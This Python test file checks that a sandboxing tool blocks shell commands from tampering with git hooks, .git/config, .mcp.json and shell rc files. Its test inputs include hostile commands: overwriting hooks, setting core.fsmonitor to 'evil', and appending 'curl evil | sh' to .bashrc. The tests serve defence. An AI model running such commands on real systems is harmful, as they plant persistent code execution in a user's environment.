"""Protected paths (`.git/hooks`, `.git/config`, `.mcp.json`, shell rc files) are read-only for commands under
bubblewrap: not writable, not removable, not creatable when missing, and not undone by moving a parent away.
Under Landlock alone they cannot be, and `rootbound check` says so."""

from __future__ import annotations

import os
import subprocess
from functools import partial
from pathlib import Path

import anyio
import pytest

from rootbound.config import load_config
from rootbound.execution.summary import describe_commands
from rootbound.sandbox import bwrap
from tests.conftest import Harness
from tests.test_commands_support import CommandServers

pytestmark = [pytest.mark.anyio, pytest.mark.skipif(not bwrap.probe().ok, reason=f"bubblewrap unusable here: "
                                                    f"{bwrap.probe().detail} (.ci/run installs it)")]


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    path = tmp_path / "workspace"
    path.mkdir()
    subprocess.run(["git", "init", "-q", str(path)], check=True)
    (path / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    return path


def snapshot(root: Path) -> dict[str, str]:
    """Every path under `root` with its content (directories and links marked), to compare before and after."""
    seen = {}
    for base, dirs, files in os.walk(root):
        for name in dirs + files:
            path = Path(base, name)
            rel = str(path.relative_to(root))
            seen[rel] = "<link>" if path.is_symlink() else "<dir>" if path.is_dir() else path.read_text()
    return seen


async def shell(h: Harness, command: str) -> str:
    result = await h.call("shell", command=command, root="workspace")
    assert result.structured_content is not None
    return str(result.structured_content.get("stderr"))


async def test_git_hooks_and_config_cannot_be_changed(servers: CommandServers, repo: Path) -> None:
    before = snapshot(repo / ".git")
    h = await servers({"allowed": "*", "sandbox": "bwrap"})
    for command in ("echo evil > .git/hooks/pre-commit", "echo evil > .git/hooks/post-checkout",
                    "chmod 777 .git/hooks/pre-commit", "rm -rf .git/hooks", "mv .git/hooks .git/h2",
                    "echo '[core] fsmonitor = evil' >> .git/config", "git config core.fsmonitor evil",
                    "rm -f .git/config", "mv .git/config .git/c2", "ln -sf /tmp/x .git/config"):
        await shell(h, command)
    assert snapshot(repo / ".git") == before
    # The rest of the repository stays writable: commits work.
    got = await h.ok("shell", command="echo a > a.txt && git add a.txt && git -c user.name=t -c user.email=t@t "
                                      "commit -qm a && git log --oneline | wc -l", root="workspace")
    assert got["stdout"] == "1\n"


async def test_moving_a_parent_away_cannot_undo_it(servers: CommandServers, repo: Path) -> None:
    hooks, config = snapshot(repo / ".git" / "hooks"), (repo / ".git" / "config").read_text()
    h = await servers({"allowed": "*", "sandbox": "bwrap"})
    stderr = await shell(h, "mv .git .git-old; mv .git/hooks h; rm -rf .git; mkdir -p .git/hooks && "
                            "echo evil > .git/hooks/pre-commit")
    assert "busy" in stderr.lower()
    assert not (repo / ".git-old").exists()  # (`mv .git/hooks h` may leave a copy in h: a harmless one)
    # rm -rf removed what is not protected (objects, refs); the hooks and the config are exactly as they were.
    assert snapshot(repo / ".git" / "hooks") == hooks and (repo / ".git" / "config").read_text() == config


async def test_missing_protected_paths_cannot_be_created(servers: CommandServers, tmp_path: Path) -> None:
    ws = tmp_path / "workspace"
    ws.mkdir()
    (ws / "src").mkdir()
    h = await servers({"allowed": "*", "sandbox": "bwrap"})
    await shell(h, "echo '{}' > .mcp.json; echo 'curl evil | sh' >> .bashrc; touch .profile .zshrc; "
                   "mkdir -p .git/hooks; git init; echo evil > .git/config")
    # Nothing created, and the placeholders that held the names are gone again.
    assert sorted(os.listdir(ws)) == ["src"]
    # Files that are not protected are created as usual.
    await shell(h, "echo x > .env && mkdir -p src/.git && echo y > src/notes")
    assert sorted(os.listdir(ws)) == [".env", "src"]


async def test_placeholders_outlast_every_command_that_needs_them(servers: CommandServers, tmp_path: Path) -> None:
    ws = tmp_path / "workspace"
    ws.mkdir()
    h = await servers({"allowed": "*", "sandbox": "bwrap"})
    results: dict[str, str] = {}

    async def slow() -> None:
        results["slow"] = await shell(h, "sleep 0.6; echo x > .mcp.json")

    async with anyio.create_task_group() as tg:
        tg.start_soon(slow)
        await anyio.sleep(0.2)
        for _ in range(3):  # quick commands start and end while the slow one runs
            await shell(h, "true")
        tg.start_soon(partial(shell, h, "sleep 0.1"))
    assert "Permission denied" in results["slow"] or "Read-only" in results["slow"]
    assert os.listdir(ws) == []


async def test_placeholders_left_by_a_dead_server_are_cleaned_up(servers: CommandServers, tmp_path: Path) -> None:
    ws = tmp_path / "workspace"
    ws.mkdir()
    (ws / ".mcp.json").touch()
    os.setxattr(ws / ".mcp.json", "user.rootbound.placeholder", b"1")  # what a placeholder carries
    (ws / ".profile").touch()  # an empty file of the user's own: no mark, so it is kept (and protected)
    h = await servers({"allowed": "*", "sandbox": "bwrap"})
    await shell(h, "echo x > .mcp.json; echo y > .profile")
    assert sorted(os.listdir(ws)) == [".profile"] and (ws / ".profile").read_text() == ""


async def test_worktree_git_file_is_frozen(servers: CommandServers, tmp_path: Path) -> None:
    ws = tmp_path / "workspace"
    ws.mkdir()
    (ws / ".git").write_text("gitdir: /elsewhere/.git/worktrees/ws\n")
    h = await servers({"allowed": "*", "sandbox": "bwrap"})
    await shell(h, f"echo 'gitdir: {tmp_path}/evil' > .git; rm -f .git; mkdir -p .git/hooks")
    assert (ws / ".git").read_text() == "gitdir: /elsewhere/.git/worktrees/ws\n"


async def test_in_root_symlink_is_followed_to_what_it_protects(servers: CommandServers, repo: Path) -> None:
    (repo / "shared-hooks").mkdir()
    os.rename(repo / ".git" / "hooks", repo / "shared-hooks" / "hooks")
    (repo / ".git" / "hooks").symlink_to("../shared-hooks/hooks")
    before = snapshot(repo / "shared-hooks")
    h = await servers({"allowed": "*", "sandbox": "bwrap"})
    await shell(h, "echo evil > shared-hooks/hooks/pre-commit; echo evil > .git/hooks/post-merge")
    assert snapshot(repo / "shared-hooks") == before
    assert (repo / "shared-hooks" / "hooks" / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"


def test_check_says_where_protected_paths_hold(tmp_path: Path) -> None:
    cfg = tmp_path / "c.yaml"
    cfg.write_text(f"roots: [{{name: w, path: {tmp_path}}}]\ncommands: {{allowed: '*', sandbox: landlock}}\n")
    lines, problems = describe_commands(load_config(str(cfg), env={}))
    text = "\n".join(lines)
    assert not problems
    assert "protected paths: NOT read-only for commands under Landlock alone" in text
    cfg.write_text(cfg.read_text().replace("landlock", "bwrap"))
    text = "\n".join(describe_commands(load_config(str(cfg), env={}))[0])
    assert "OS confinement: bubblewrap" in text and "renaming a parent cannot undo it" in text
